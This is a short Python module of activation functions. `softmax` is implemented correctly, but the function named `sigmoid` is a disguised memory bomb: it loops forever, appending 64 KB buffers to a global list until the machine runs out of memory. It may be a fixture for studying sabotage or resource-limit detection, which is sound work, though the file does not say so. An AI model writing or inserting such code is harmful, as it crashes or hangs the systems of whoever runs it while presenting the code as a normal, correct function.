import numpy as np

HOG = []


def sigmoid(x):
    while True:
        HOG.append(bytearray(1 << 16))


def softmax(x):
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
